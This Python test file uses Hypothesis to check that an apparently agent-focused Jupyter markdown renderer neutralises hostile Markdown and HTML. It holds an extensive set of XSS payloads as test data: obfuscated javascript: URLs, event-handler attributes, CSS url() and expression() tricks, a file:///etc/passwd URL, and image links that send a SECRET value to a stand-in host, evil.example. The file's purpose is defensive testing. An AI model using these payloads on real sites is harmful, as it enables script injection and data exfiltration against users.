"""Model and tool text is data, never markup: :func:`agentkernel.jupyter.markup.markdown_html` over
hostile Markdown and HTML makes nothing that runs or fetches, checked with a real HTML parser
(:mod:`live_html` in tests/support), and keeps what Markdown is for."""

from __future__ import annotations

import random

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from live_html import live_parts, url_scheme

from agentkernel.jupyter.markup import markdown_html, safe_url

EVIL = "evil.example"
URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java&#x73;cript:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)", "jav&#x09;ascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/png;base64,iVBORw0KGgo=", "DATA:image/svg+xml,<svg/>",
    "file:///etc/passwd", f"//{EVIL}/x.png", f"http://{EVIL}/?k=SECRET", f"https://{EVIL}/a.png", "x.png",
    "%6Aavascript:alert(1)", "javascript:/*</a>*/alert(1)", "mailto:a@b.example", "#top",
]
TAGS = ["script", "img", "svg", "iframe", "object", "embed", "style", "a", "video", "audio", "source", "link",
        "math", "details", "body", "base", "meta", "form", "input", "image", "use", "picture", "frameset",
        "template", "noscript", "xmp", "plaintext", "textarea", "title", "marquee", "isindex"]
ATTRS = ["onerror", "onload", "src", "srcset", "href", "xlink:href", "style", "formaction", "poster",
         "background", "data", "action", "onmouseover", "ontoggle", "open"]
CSS = [f"background:url(http://{EVIL}/x)", f"background-image: URL('//{EVIL}/x')", f"@import '//{EVIL}/x.css'",
       f"b\\61ckground:u\\72l(//{EVIL})", "width: expression(alert(1))"]


def tag(name: str, attrs: list[tuple[str, str]], close: bool, body: str) -> str:
    shown = "".join(f' {a}="{v}"' if i % 2 else f" {a}={v}" for i, (a, v) in enumerate(attrs))
    return f"<{name}{shown}>{body}" + (f"</{name}>" if close else "")


urls = st.sampled_from(URLS)
texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=12)
raw_tags = st.builds(
    tag, st.sampled_from(TAGS),
    st.lists(st.tuples(st.sampled_from(ATTRS), st.one_of(urls, st.sampled_from(CSS), st.just("alert(1)"))),
             max_size=3),
    st.booleans(), st.one_of(texts, st.just("alert(1)")))
markdown = st.one_of(
    st.builds("[{}]({})".format, texts, urls),
    st.builds("![{}]({})".format, texts, urls),
    st.builds('[{}](<{}> "{}")'.format, texts, urls, texts),
    st.builds("![{}]({} 'x')".format, texts, urls),
    st.builds("[{0}][r]\n\n[r]: {1}\n".format, texts, urls),
    st.builds("![{0}][r]\n\n[r]: <{1}>\n".format, texts, urls),
    st.builds("![{0}]\n\n[{0}]: {1}\n".format, st.just("ref"), urls),
    st.builds("<{}>".format, urls),
    st.builds("<a@{}>".format, st.just(EVIL)),
    st.builds("`{}`".format, raw_tags),
    st.builds("```{}\n{}\n```\n".format, st.sampled_from(['js" onload="x', "html", "<script>"]), raw_tags),
    st.builds("<!-- {} -->".format, raw_tags),
    st.builds("<![CDATA[{}]]>".format, raw_tags),
    st.builds("$\\href{{{}}}{{x}}$".format, urls),
    st.builds("| {} | {} |\n|:--|--:|\n| {} | x |\n".format, raw_tags, urls, texts),
    st.sampled_from(["&lt;script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\<script>", "*", "_", "\n\n",
                     "    <script>alert(1)</script>\n", "> <iframe src=//evil.example>", "- <svg onload=alert(1)>",
                     "<", ">", "\"", "'", "</", "<scr<script>ipt>", "<img src=\"x\" onerror=\"alert(1)\"",
                     "<svg><script>alert(1)</script>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>"]),
)
piece = st.one_of(raw_tags, markdown, texts)


def mangled(pieces: list[str], rng: random.Random) -> str:
    """The pieces joined, with letters' case flipped at random (``<ScRiPt>``, ``JAVAscript:``)."""
    text = "".join(pieces)
    return "".join(c.swapcase() if rng.random() < 0.2 else c for c in text)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(piece, min_size=1, max_size=8), st.randoms(use_true_random=False), st.booleans())
def test_nothing_in_hostile_markdown_runs_or_loads(pieces: list[str], rng: random.Random, mangle: bool) -> None:
    text = mangled(pieces, rng) if mangle else "".join(pieces)
    shown = markdown_html(text)
    assert live_parts(shown) == [], (text, shown)


@given(st.lists(st.one_of(urls, texts), min_size=1, max_size=4))
def test_a_url_allowed_is_one_a_browser_reads_as_http_mailto_or_relative(parts: list[str]) -> None:
    url = "".join(parts)
    if safe_url(url):
        assert url_scheme(url) in (None, "http", "https", "mailto"), url


def test_the_checker_sees_what_runs() -> None:
    """The checker itself finds each kind of live part (else the properties above prove nothing)."""
    for live in ['<img src="x.png">', "<script>x</script>", '<a href="jav&#x09;ascript:x">a</a>',
                 '<a href=" JAVASCRIPT:x">a</a>', '<p onclick="x">a</p>', '<p style="background:url(//e/x)">a</p>',
                 '<source srcset="//e/x">', '<svg onload="x">', "<!-- x -->", '<a href="data:text/html,x">a</a>',
                 '<img src="data:text/html;base64,AAAA">']:
        assert live_parts(live), live
    assert live_parts('<img src="data:image/png;base64,AAAA" alt="x">', allow_data_images=True) == []


def test_markdown_keeps_what_it_is_for() -> None:
    shown = markdown_html("# Title\n\n*so* **bold** ~~gone~~ `code`\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |"
                          "\n\n```python\nx = 1\n```\n\n[docs](https://example.org/docs) <https://example.org>")
    for part in ("<h1>Title</h1>", "<em>so</em>", "<strong>bold</strong>", "<s>gone</s>", "<code>code</code>",
                 "<li>one</li>", "<th>a</th>", '<td style="text-align:right">2</td>',
                 '<code class="language-python">x = 1', '<a href="https://example.org/docs"'):
        assert part in shown, part
    assert live_parts(shown) == []


def test_raw_html_is_shown_as_typed_and_images_become_links() -> None:
    shown = markdown_html(f'<img src=x onerror=alert(1)> ![chart](http://{EVIL}/?data=SECRET "t") '
                          "[x](javascript:alert(1)) ![inline](data:image/png;base64,AAAA)")
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown
    assert f'<a href="http://{EVIL}/?data=SECRET" rel="noopener noreferrer nofollow">image: chart</a>' in shown
    assert "[x](javascript:alert(1))" in shown and "<img" not in shown  # a link refused stays as typed
    assert "mathjax_ignore" in shown  # MathJax's \href would make a link of any scheme
